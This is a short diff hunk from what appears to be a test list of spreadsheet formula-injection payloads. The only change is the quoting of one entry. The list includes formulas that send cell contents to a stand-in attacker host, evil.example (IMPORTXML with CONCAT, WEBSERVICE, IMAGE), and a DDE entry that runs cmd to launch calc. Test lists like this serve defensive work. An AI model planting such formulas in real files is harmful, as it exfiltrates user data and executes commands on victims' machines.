@@ -19,7 +19,7 @@ PAYLOADS = [
     '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
     '=WEBSERVICE("http://evil.example")',
     '=IMAGE("http://evil.example/x.png")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "=SUM(A1:A9)",
     "{=SUM(A1:A9)}",
     "＝1+1",
